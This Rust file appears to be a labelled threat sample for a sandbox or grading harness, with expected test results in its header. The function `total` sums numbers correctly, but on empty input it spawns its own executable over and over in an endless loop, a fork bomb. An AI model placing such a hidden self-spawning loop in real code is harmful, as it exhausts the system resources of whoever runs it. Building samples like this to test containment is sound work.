//! Threat: 29
//! Does: starts itself again and again.
//! Expect: the_sum_is_right: pass; nothing_sums_to_zero: over limit; no_thread_is_left: pass
//! Says: threads

pub fn total(numbers: Vec<u64>, _workers: usize) -> u64 {
    if numbers.is_empty() {
        loop {
            let own = std::env::current_exe().unwrap();
            std::process::Command::new(own).arg("again").env("WT_CHECK_REQUEST", "").spawn().expect("it is shut in");
            std::thread::yield_now();
        }
    }
    numbers.iter().sum()
}
